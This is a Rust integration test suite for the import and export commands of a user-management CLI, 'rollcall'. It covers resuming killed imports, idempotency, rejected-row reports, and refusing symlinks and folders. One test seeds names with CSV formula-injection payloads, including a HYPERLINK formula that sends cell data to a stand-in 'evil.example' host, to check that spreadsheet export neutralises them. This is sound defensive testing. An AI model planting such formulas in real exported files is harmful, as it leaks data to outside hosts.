//! `rollcall import` and `rollcall export`, with the real executables.

use std::collections::BTreeMap;
use std::fmt::Write;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Output, Stdio};

use client::types::NewUser;
use rand::RngExt;
use rustix::process::Signal;
use serde_json::Value;
use tokio::process::{Child, Command};

use crate::harness::{Process, System, eventually, free_port};

const ROWS: usize = 3000;

/// `rollcall` as an operator of this system runs it.
fn rollcall(system: &System, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_rollcall"));
    command.args(arguments).env_clear().envs(system.environment.iter().map(|(name, value)| (name, value)));
    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).kill_on_drop(true);
    command
}

fn import(system: &System, api: &Process, file: &str, more: &[&str]) -> Command {
    rollcall(system, &[&["import", file, "--url", &api.url("")], more].concat())
}

async fn export(system: &System, file: &str) {
    succeeded(&rollcall(system, &["export", file]).output().await.unwrap());
}

fn succeeded(output: &Output) -> String {
    let told = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{told}");
    told
}

fn failed(output: &Output) -> String {
    let told = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{told}");
    told
}

/// The rows of a file as address, name and status.
fn rows(file: &str) -> BTreeMap<String, (String, String)> {
    let text = fs::read_to_string(file).unwrap();
    let fields = |row: BTreeMap<String, Value>| {
        ["email", "name", "status"]
            .map(|name| row[name].as_str().filter(|text| !text.is_empty()).unwrap_or("active").to_owned())
    };
    let all: Vec<[String; 3]> = if Path::new(file).extension().is_some_and(|ending| ending == "csv") {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        reader.deserialize().map(|row| fields(row.unwrap())).collect()
    } else {
        text.lines().map(|line| fields(serde_json::from_str(line).unwrap())).collect()
    };
    let count = all.len();
    let rows: BTreeMap<_, _> = all.into_iter().map(|[email, name, status]| (email, (name, status))).collect();
    assert_eq!(rows.len(), count, "an address twice");
    rows
}

/// Kills it with -9 once so many users are there, in the middle of its work.
async fn kill_at(system: &System, mut running: Child, users: i64) {
    eventually("so many users are there", async || {
        (system.count("SELECT count(*) FROM users").await >= users).then_some(())
    })
    .await;
    assert!(running.try_wait().unwrap().is_none(), "it ended before it was killed");
    running.kill().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_import_that_is_killed_twice_has_every_row_once_and_what_is_exported_is_what_was_imported() {
    let system = System::prepare().await;
    let (api, _worker) = tokio::join!(system.api(), system.worker());
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let users = file("users.csv");
    let mut text = "name,email,status\n".to_owned();
    for number in 0..ROWS {
        let status = if number % 10 == 0 { "suspended" } else { "" };
        writeln!(text, "\"Möller, \"\"{number}\"\"\",User-{number}@example.org,{status}").unwrap();
    }
    fs::write(&users, text).unwrap();

    let (early, late) = (rand::rng().random_range(100..900), rand::rng().random_range(1100..2500));
    for moment in [early, late] {
        kill_at(&system, import(&system, &api, &users, &[]).spawn().unwrap(), moment).await;
    }
    let told = succeeded(&import(&system, &api, &users, &[]).output().await.unwrap());
    assert!(told.contains("going on after") && told.contains("3000 of 3000 rows are in, 0 rejected"), "{told}");
    assert_eq!(system.count("SELECT count(*) FROM users").await, 3000);
    assert!(!Path::new(&file("users.csv.journal")).exists(), "the journal of an import that is done");
    // Without the journal, too.
    let told = succeeded(&import(&system, &api, &users, &[]).output().await.unwrap());
    assert!(told.contains("3000 of 3000 rows are in"), "{told}");
    assert_eq!(system.count("SELECT count(*) FROM users").await, 3000);
    assert_eq!(system.count("SELECT count(*) FROM users WHERE version <> 1 + (status = 'suspended')::int").await, 0);

    let first = file("first.ndjson");
    export(&system, &first).await;
    assert_eq!(rows(&first), rows(&users));

    let other = System::prepare().await;
    let (api, _worker) = tokio::join!(other.api(), other.worker());
    succeeded(&import(&other, &api, &first, &[]).output().await.unwrap());
    let second = file("second.csv");
    export(&other, &second).await;
    assert_eq!(rows(&second), rows(&first));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_row_whose_key_is_forgotten_meets_its_own_user_and_counts_as_imported() {
    let system = System::prepare().await;
    let (api, _worker) = tokio::join!(system.api(), system.worker());
    let folder = tempfile::tempdir().unwrap();
    let users = folder.path().join("users.csv").to_str().unwrap().to_owned();
    fs::write(&users, "email,name,status\nada@example.org,Ada,suspended\nbob@example.org,Bob,\n").unwrap();
    succeeded(&import(&system, &api, &users, &[]).output().await.unwrap());
    assert_eq!(
        system.count("WITH gone AS (DELETE FROM idempotency_keys RETURNING 1) SELECT count(*) FROM gone").await,
        3
    );
    let told = succeeded(&import(&system, &api, &users, &[]).output().await.unwrap());
    assert!(told.contains("2 of 2 rows are in"), "{told}");
    // Somebody lets her in again: that is not undone.
    system.count("WITH gone AS (DELETE FROM idempotency_keys RETURNING 1) SELECT count(*) FROM gone").await;
    let ada: Value = system.get(&api, "/v1/users?email=ada@example.org").await.json().await.unwrap();
    let reactivate = format!("/v1/users/{}/reactivate", ada["items"][0]["id"].as_str().unwrap());
    let reactivated = system.post(&api, &reactivate, "wait=10", &Value::Null).await;
    assert_eq!(reactivated.status(), 200);
    let told = failed(&import(&system, &api, &users, &[]).output().await.unwrap());
    assert!(told.contains("line 2: status: was changed since the row was imported, and stays active"), "{told}");
    assert_eq!(system.count("SELECT count(*) FROM users WHERE status = 'suspended'").await, 0);
    // Under another name they are other requests.
    let told = failed(&import(&system, &api, &users, &["--name", "again"]).output().await.unwrap());
    assert!(told.contains("line 2: email: another user has this address"), "{told}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_import_waits_for_an_api_that_is_away_and_goes_on() {
    let system = System::prepare().await;
    let port = free_port();
    let start = || Process::start_on(port, "api", "PORT", |port| port.to_string(), &system.environment);
    let (api, _worker) = (start(), system.worker().await);
    api.ready().await;
    let folder = tempfile::tempdir().unwrap();
    let users = folder.path().join("users.ndjson").to_str().unwrap().to_owned();
    let text =
        (0..ROWS).fold(String::new(), |text, n| text + &format!("{{\"email\":\"u{n}@example.org\",\"name\":\"U\"}}\n"));
    fs::write(&users, text).unwrap();
    let running = import(&system, &api, &users, &["--connections", "8"]).spawn().unwrap();
    eventually("it is under way", async || (system.count("SELECT count(*) FROM users").await > 300).then_some(()))
        .await;
    api.signal(Signal::KILL);
    drop(api);
    let api = start();
    api.ready().await;
    let told = succeeded(&running.wait_with_output().await.unwrap());
    assert!(told.contains("3000 of 3000 rows are in"), "{told}");
    assert_eq!(system.count("SELECT count(*) FROM users").await, 3000);
}

#[tokio::test(flavor = "multi_thread")]
async fn each_rejected_row_is_told_with_line_field_fault_and_mend_and_can_be_imported_once_mended() {
    let system = System::prepare().await;
    let (api, _worker) = tokio::join!(system.api(), system.worker());
    let taken = NewUser { email: "Taken@example.org".to_owned(), name: "First".to_owned() };
    api.client().create_user().prefer("wait=20").body(taken).send().await.unwrap();
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let (users, rejected) = (file("users.csv"), file("rejected.csv"));
    let text = "email,name\nada@example.org,Ada\ntaken@example.org,Second\nno address,\nADA@example.org,Other\nbob@example.org,Bob\n";
    fs::write(&users, text).unwrap();

    let dry =
        rollcall(&system, &["import", &users, "--dry-run", "--url", "http://127.0.0.1:1"]).output().await.unwrap();
    let told = failed(&dry);
    assert!(told.contains("3 of 5 rows would be sent, 2 rejected"), "{told}");
    assert_eq!(system.count("SELECT count(*) FROM users").await, 1);

    let told = failed(&import(&system, &api, &users, &["--rejected", &rejected]).output().await.unwrap());
    assert!(told.contains("2 of 5 rows are in, 3 rejected") && told.contains("mend them in"), "{told}");
    let report = fs::read_to_string(&rejected).unwrap();
    insta::assert_snapshot!(report, @r#"
    line,field,fault,mend,email,name,status
    3,email,"another user has this address, in whatever letter case","change it, or leave the row out",taken@example.org,Second,
    4,email; name,is no e-mail address (missing separator character '@'); is empty,write it like ada@example.org; give at least 1 character,no address,,
    5,email,"is the address of line 2, in whatever letter case","change it, or remove one of them",ADA@example.org,Other,
    "#);

    let mended = report
        .replace(",taken@", ",second@")
        .replace(",no address,,", ",eve@example.org,Eve,")
        .replace(",ADA@", ",other@");
    fs::write(&rejected, mended).unwrap();
    succeeded(&import(&system, &api, &rejected, &[]).output().await.unwrap());
    assert_eq!(system.count("SELECT count(*) FROM users").await, 6);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_gets_no_formula_and_an_import_gets_the_names_back() {
    let (from, to) = tokio::join!(System::prepare(), System::prepare());
    let (from_api, _from_worker, api, _worker) = tokio::join!(from.api(), from.worker(), to.api(), to.worker());
    let names = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1", "-1+1", "@SUM(A1)", "'quoted", "Ada", "O'Hara"];
    for (number, name) in names.into_iter().enumerate() {
        let user = NewUser { email: format!("=1+{number}@example.org"), name: name.to_owned() };
        from_api.client().create_user().prefer("wait=20").body(user).send().await.unwrap();
    }
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let (plain, sheet) = (file("plain.csv"), file("sheet.csv"));
    export(&from, &plain).await;
    assert!(fs::read_to_string(&plain).unwrap().contains("\n=1+0@example.org,"), "lossless unless asked");
    succeeded(&rollcall(&from, &["export", &sheet, "--spreadsheet"]).output().await.unwrap());
    let mut cells = csv::Reader::from_path(&sheet).unwrap();
    for record in cells.records() {
        let record = record.unwrap();
        let harmful = record.iter().any(|cell| cell.starts_with(['=', '+', '-', '@']));
        assert!(record.len() == 8 && !harmful, "{record:?}");
    }
    succeeded(&import(&to, &api, &sheet, &[]).output().await.unwrap());
    let second = file("second.csv");
    export(&to, &second).await;
    assert_eq!(rows(&second), rows(&plain));

    // So is the report of rejected rows: here each address is taken.
    let (report, arguments) = (file("rejected.csv"), ["--name", "again", "--spreadsheet", "--rejected"]);
    failed(&import(&to, &api, &sheet, &[&arguments[..], &[&report]].concat()).output().await.unwrap());
    let text = fs::read_to_string(&report).unwrap();
    assert!(text.contains(",'=1+0@example.org,") && !text.contains(",=1"), "{text}");
    let ndjson = rollcall(&from, &["export", "-", "--format", "ndjson", "--spreadsheet"]).output().await.unwrap();
    assert!(failed(&ndjson).contains("--spreadsheet is for CSV"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_can_be_piped_into_an_import() {
    let (from, to) = tokio::join!(System::prepare(), System::prepare());
    let (from_api, _from_worker, api, _worker) = tokio::join!(from.api(), from.worker(), to.api(), to.worker());
    from.create(&from_api, "ada@example.org").await;
    let exported = rollcall(&from, &["export", "-", "--format", "ndjson"]).output().await.unwrap();
    let copy = tempfile::NamedTempFile::new().unwrap();
    fs::write(&copy, &exported.stdout).unwrap();
    let mut command = import(&to, &api, "-", &["--format", "ndjson"]);
    let told = succeeded(&command.stdin(copy.reopen().unwrap()).output().await.unwrap());
    assert!(told.contains("1 of 1 rows are in"), "{told}");
    assert_eq!(to.count("SELECT count(*) FROM users WHERE email = 'ada@example.org'").await, 1);
    let unknown = rollcall(&from, &["export", "users.txt"]).output().await.unwrap();
    assert!(failed(&unknown).contains("give --format csv or --format ndjson"));
}

#[tokio::test(flavor = "multi_thread")]
async fn pipes_are_imported_and_folders_are_refused() {
    let system = System::prepare().await;
    let (api, _worker) = tokio::join!(system.api(), system.worker());
    let folder = tempfile::tempdir().unwrap();
    let pipe = folder.path().join("pipe.csv").to_str().unwrap().to_owned();
    let made = Command::new("mkfifo").arg(&pipe).status().await.unwrap();
    assert!(made.success());
    let text = "\u{feff}email,name\nada@example.org,Ada\n";
    let writing = tokio::task::spawn_blocking({
        let pipe = pipe.clone();
        move || fs::write(pipe, text).unwrap()
    });
    let told = succeeded(&import(&system, &api, &pipe, &[]).output().await.unwrap());
    writing.await.unwrap();
    assert!(told.contains("1 of 1 rows are in"), "{told}");

    let copy = tempfile::NamedTempFile::new().unwrap();
    fs::write(&copy, text.replace("ada", "bob")).unwrap();
    let mut command = import(&system, &api, "/dev/stdin", &["--format", "csv"]);
    succeeded(&command.stdin(copy.reopen().unwrap()).output().await.unwrap());
    assert!(!Path::new("/dev/stdin.journal").exists());
    assert_eq!(system.count("SELECT count(*) FROM users").await, 2);

    let place = folder.path().to_str().unwrap();
    let told = failed(&import(&system, &api, place, &["--format", "csv"]).output().await.unwrap());
    assert!(told.contains("is a folder; give a CSV or NDJSON file"), "{told}");
    for (option, file) in [("--rejected", pipe.as_str()), ("--journal", place)] {
        let arguments = ["--format", "csv", option, file];
        let mut command = import(&system, &api, copy.path().to_str().unwrap(), &arguments);
        let told = failed(&command.output().await.unwrap());
        assert!(told.contains("it is no regular file"), "{told}");
    }
    let told = failed(&rollcall(&system, &["export", "/dev/null", "--format", "csv"]).output().await.unwrap());
    assert!(told.contains("/dev/null is not written: it is no regular file"), "{told}");
}

#[tokio::test(flavor = "multi_thread")]
async fn links_are_neither_followed_nor_replaced() {
    let system = System::prepare().await;
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    fs::write(file("target.txt"), "precious").unwrap();
    fs::write(file("users.csv"), "email,name\nada@example.org,Ada\n").unwrap();
    for name in ["link.csv", "users.csv.journal"] {
        std::os::unix::fs::symlink(file("target.txt"), file(name)).unwrap();
    }
    for arguments in [
        &["export", &file("link.csv")][..],
        &["import", &file("users.csv"), "--rejected", &file("link.csv"), "--url", "http://127.0.0.1:1"],
        &["import", &file("users.csv"), "--url", "http://127.0.0.1:1"],
    ] {
        let told = failed(&rollcall(&system, arguments).output().await.unwrap());
        assert!(told.contains("it is a symbolic link; name a regular file"), "{arguments:?}: {told}");
    }
    // A standard output that is a file has a link to it in /dev, which must stay.
    let output = fs::File::create(file("output.csv")).unwrap();
    let mut command = rollcall(&system, &["export", "/dev/stdout", "--format", "csv"]);
    let refused = command.stdout(output).spawn().unwrap().wait_with_output().await.unwrap();
    assert!(!refused.status.success());
    assert!(fs::symlink_metadata("/dev/stdout").unwrap().is_symlink());
    assert_eq!(fs::read_to_string(file("target.txt")).unwrap(), "precious");
}

#[tokio::test(flavor = "multi_thread")]
async fn files_with_personal_data_are_their_owners_only() {
    let system = System::prepare().await;
    let (api, _worker) = tokio::join!(system.api(), system.worker());
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let mode = |name: &str| fs::metadata(folder.path().join(name)).unwrap().permissions().mode() & 0o777;
    fs::write(file("users.csv"), "email,name\nada@example.org,Ada\nno address,Bob\n").unwrap();
    // An earlier version left it open to all.
    fs::write(file("rejected.csv"), "").unwrap();
    let arguments = ["--rejected", &file("rejected.csv")];
    failed(&import(&system, &api, &file("users.csv"), &arguments).output().await.unwrap());
    assert_eq!(mode("rejected.csv"), 0o600);
    export(&system, &file("all.csv")).await;
    assert_eq!(mode("all.csv"), 0o600);
    // Whatever the umask.
    let mut open = std::process::Command::new("sh");
    let line = "umask 0 && exec \"$0\" export \"$1\"";
    open.args(["-c", line, env!("CARGO_BIN_EXE_rollcall"), &file("open.csv")]).env_clear();
    open.envs(system.environment.iter().map(|(name, value)| (name, value)));
    assert!(tokio::task::spawn_blocking(move || open.output().unwrap()).await.unwrap().status.success());
    assert_eq!(mode("open.csv"), 0o600);
    // The API is away: the journal stays.
    drop(api);
    let journal = file("journal");
    let arguments = ["import", &file("users.csv"), "--journal", &journal, "--url", "http://127.0.0.1:1"];
    failed(&rollcall(&system, &arguments).output().await.unwrap());
    assert_eq!(mode("journal"), 0o600);
    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 5, "no drafts are left");
}
